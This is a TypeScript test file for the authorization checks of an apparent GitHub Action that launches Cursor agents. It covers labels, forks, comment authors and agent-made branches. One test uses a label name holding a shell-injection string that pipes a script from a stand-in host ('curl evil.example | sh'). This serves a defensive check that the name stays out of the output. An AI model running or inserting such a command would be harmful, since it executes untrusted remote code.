import assert from "node:assert/strict"
import { describe, test } from "node:test"
import type { Rules } from "../../src/authorize/rules.ts"
import { triggerOf } from "../../src/event/trigger.ts"
import { changed, HOME, issueComment, labeledIssue, payload } from "../scenarios/payloads.ts"
import { answering, type Changes, onPullRequest, REFUSING, review, reviewComment, verdict, YES } from "./questions.ts"

const LABEL = { label: "cursor" }
const HEAD_OF_AGENT = { pull_request: { head: { ref: "cursor/fix-typo" } } }
const FORK = { repo: { full_name: "mallory/Hello-World" } }
const MALLORY = { login: "mallory", type: "User" }

/** Events by the owner that are judged by themselves: only about those that pass, and about forks, is GitHub asked. */
const EVENTS: readonly {
  readonly name: string
  readonly event: string
  readonly payload: Changes
  readonly rules?: Partial<Rules>
  readonly isFork?: boolean
  readonly verdict: RegExp
}[] = [
  { name: "the label", event: "issues", payload: labeledIssue(), rules: LABEL, verdict: YES },
  {
    name: "another case",
    event: "issues",
    payload: labeledIssue({ label: { name: "Cursor" } }),
    rules: LABEL,
    verdict: /^the label differs from cursor in upper and lower case only; write `label` as the label is written$/,
  },
  {
    name: "a longer label",
    event: "issues",
    payload: labeledIssue({ label: { name: "cursor-no" } }),
    rules: LABEL,
    verdict: /the label is cursor-no/,
  },
  {
    name: "a label that a shell would run, whose name is kept out of the output",
    event: "issues",
    payload: labeledIssue({ label: { name: '"; curl evil.example | sh; $(id) `id` @octocat' } }),
    rules: LABEL,
    verdict: /^the label is another one, and `label` is cursor$/,
  },
  {
    name: "the label in letters that only look like it",
    event: "issues",
    payload: labeledIssue({ label: { name: "с\u0443rsor" } }),
    rules: LABEL,
    verdict: /^the label is с\u0443rsor, and `label` is cursor$/,
  },
  {
    name: "a part of the label",
    event: "issues",
    payload: labeledIssue({ label: { name: "curs" } }),
    rules: LABEL,
    verdict: /the label is curs/,
  },
  {
    name: "another label beside it",
    event: "issues",
    payload: labeledIssue({ label: { name: "bug" }, issue: { labels: [{ name: "bug" }, { name: "cursor" }] } }),
    rules: LABEL,
    verdict: /the label is bug/,
  },
  ...["opened", "edited", "reopened", "assigned", "pinned"].map((action) => ({
    name: `an issue that is ${action} where a label is asked for`,
    event: "issues",
    payload: changed(payload("issues", "opened"), { action }),
    rules: LABEL,
    verdict: new RegExp(`^\`label\` is cursor, so issues act only when it is set; this one was ${action}, and `),
  })),
  ...["opened", "synchronize", "closed", "ready_for_review"].map((action) => ({
    name: `a pull request: ${action} where a label is asked for`,
    event: "pull_request",
    payload: changed(payload("pull_request", "opened"), { action }),
    rules: LABEL,
    verdict: /^`label` is cursor, so pull requests act only when it is set; this one was /,
  })),
  {
    name: "an issue with no action where a label is asked for",
    event: "issues",
    payload: changed(payload("issues", "opened"), { action: null }),
    rules: LABEL,
    verdict: /this one was nothing that is known, and /,
  },
  ...[
    ["issues", "unlabeled"],
    ["issues", "deleted"],
    ["issues", "transferred"],
    ["issues", "closed"],
    ["pull_request", "unlabeled"],
    ["pull_request_target", "unlabeled"],
    ["discussion", "transferred"],
    ["release", "deleted"],
  ].map(([event = "", action = ""]) => ({
    name: `${event}: ${action}, with no label asked for`,
    event,
    payload: changed(payload(event.startsWith("pull") ? "pull_request" : "issues", "opened"), { action }),
    verdict: new RegExp(`^an event that is ${action} starts no agent$`),
  })),
  {
    name: "a dispatch whose own type is a word of GitHub's",
    event: "repository_dispatch",
    payload: { action: "deleted" },
    verdict: YES,
  },
  {
    name: "a closed pull request, with no label asked for",
    event: "pull_request",
    payload: changed(payload("pull_request", "opened"), { action: "closed" }),
    verdict: YES,
  },
  {
    name: "an agent's pull request",
    event: "pull_request",
    payload: changed(payload("pull_request", "opened"), HEAD_OF_AGENT),
    verdict: /is an agent's own/,
  },
  {
    name: "an agent's pull request that is labelled",
    event: "pull_request_target",
    payload: changed(payload("pull_request", "labeled"), HEAD_OF_AGENT),
    verdict: /is an agent's own/,
  },
  {
    name: "a pull request from the branch that this step's agents make",
    event: "pull_request",
    payload: changed(payload("pull_request", "synchronize"), { pull_request: { head: { ref: "fix/dates" } } }),
    rules: { branchName: "fix/dates" },
    verdict: /is an agent's own/,
  },
  {
    name: "a pull request from another branch than this step's agents make",
    event: "pull_request",
    payload: changed(payload("pull_request", "synchronize"), { pull_request: { head: { ref: "fix/dates-2" } } }),
    rules: { branchName: "fix/dates" },
    verdict: YES,
  },
  {
    name: "a pull request that the Cursor app opened, labelled by a person",
    event: "pull_request",
    payload: changed(payload("pull_request", "labeled"), {
      pull_request: { user: { login: "cursor[bot]", type: "Bot" } },
    }),
    verdict: /is an agent's own/,
  },
  {
    name: "a comment on an agent's pull request",
    event: "pull_request_review",
    payload: review(HEAD_OF_AGENT),
    verdict: YES,
  },
  {
    name: "a fork",
    event: "pull_request",
    payload: changed(payload("pull_request", "opened"), { pull_request: { head: FORK } }),
    verdict: /comes from a fork/,
  },
  {
    name: "a fork that is gone",
    event: "pull_request_target",
    payload: changed(payload("pull_request", "opened"), { pull_request: { head: { repo: null } } }),
    verdict: /comes from a fork/,
  },
  {
    name: "a review of a fork",
    event: "pull_request_review",
    payload: review({ pull_request: { head: FORK } }),
    verdict: /comes from a fork/,
  },
  {
    name: "a review comment on a fork",
    event: "pull_request_review_comment",
    payload: reviewComment({ pull_request: { head: FORK } }),
    verdict: /comes from a fork/,
  },
  {
    name: "a comment on a fork",
    event: "issue_comment",
    payload: issueComment("/cursor go", onPullRequest),
    isFork: true,
    verdict: /^pull request #2 comes from a fork; push its branch to this repository and open it from there$/,
  },
  {
    name: "a comment on a fork by somebody who is named",
    event: "issue_comment",
    payload: issueComment("/cursor go", onPullRequest),
    rules: { allowActors: [HOME.owner] },
    isFork: true,
    verdict: /comes from a fork/,
  },
  {
    name: "a pull request of which the event does not tell the head",
    event: "pull_request",
    payload: changed(payload("pull_request", "opened"), { pull_request: { head: null } }),
    isFork: true,
    verdict: /comes from a fork/,
  },
  {
    name: "a review of which the event does not tell the head",
    event: "pull_request_review",
    payload: review({ pull_request: { head: null } }),
    isFork: true,
    verdict: /comes from a fork/,
  },
  {
    name: "an edited comment",
    event: "issue_comment",
    payload: changed(payload("issue_comment", "edited"), { comment: { body: "/cursor go" } }),
    verdict: /only new comments .* this one was edited/,
  },
  {
    name: "a deleted comment",
    event: "issue_comment",
    payload: changed(payload("issue_comment", "deleted"), { comment: { body: "/cursor go" } }),
    verdict: /this one was deleted/,
  },
  {
    name: "an edited review",
    event: "pull_request_review",
    payload: review({ action: "edited" }),
    verdict: /this one was edited/,
  },
  {
    name: "a dismissed review",
    event: "pull_request_review",
    payload: review({ action: "dismissed" }),
    verdict: /this one was dismissed/,
  },
  {
    name: "a comment with no action",
    event: "issue_comment",
    payload: issueComment("/cursor go", { action: null }),
    verdict: /this one was neither/,
  },
  {
    name: "somebody else's comment",
    event: "issue_comment",
    payload: issueComment("/cursor go", { comment: { body: "/cursor go", user: MALLORY } }),
    verdict: /Codertocat did not write this comment/,
  },
  {
    name: "a deleted account's comment",
    event: "issue_comment",
    payload: issueComment("/cursor go", { comment: { body: "/cursor go", user: null } }),
    verdict: /did not write/,
  },
  {
    name: "somebody else's review",
    event: "pull_request_review",
    payload: review({ review: { body: "/cursor go", user: MALLORY } }),
    verdict: /did not write/,
  },
  {
    name: "our own comment",
    event: "issue_comment",
    payload: issueComment("<!-- falconer key=0 -->\n/cursor go"),
    verdict: /the action's own/,
  },
  {
    name: "our own comment, set off",
    event: "issue_comment",
    payload: issueComment("\n  <!-- falconer x\n/cursor go"),
    verdict: /the action's own/,
  },
  {
    name: "a run of a fork's code",
    event: "workflow_run",
    payload: changed(payload("workflow_run", "completed"), {
      workflow_run: { head_repository: { full_name: "mallory/x" } },
    }),
    verdict: /a fork's code/,
  },
]

describe("a pull request from a branch that another run or workflow may have named", () => {
  const trigger = triggerOf(
    "pull_request",
    changed(payload("pull_request", "opened"), { pull_request: { head: { ref: "fix/7" } } }),
  )
  const AGENTS = [
    { name: "no agent", agents: [], verdict: YES },
    {
      name: "the agent that made it",
      agents: [{ ref: "master", branchName: "fix/7" }],
      verdict: /#2 is an agent's own/,
    },
    { name: "an agent that started from it", agents: [{ ref: "fix/7", branchName: "fix/7-b" }], verdict: YES },
    { name: "an agent that pushes to it", agents: [{ ref: "fix/7", branchName: "fix/7" }], verdict: YES },
    { name: "an agent of which no start is known", agents: [{ branchName: "fix/7" }], verdict: YES },
  ]
  for (const { name, agents, verdict: expected } of AGENTS) {
    test(`where Cursor names ${name}`, async () => {
      assert.match(await verdict(trigger, {}, answering("write", false, agents)), expected)
    })
  }
  test("is not asked about for somebody who may not", async () => {
    const refusing = { ...answering("read"), agentsOf: REFUSING.agentsOf }
    assert.match(await verdict(trigger, {}, refusing), /has read permission/)
  })
})

describe("the event is", () => {
  for (const { name, event, payload: given, rules = {}, isFork = false, verdict: expected } of EVENTS) {
    test(name, async () => {
      const questions = isFork || expected === YES ? answering("admin", isFork) : REFUSING
      assert.match(await verdict(triggerOf(event, given), rules, questions), expected)
    })
  }
})
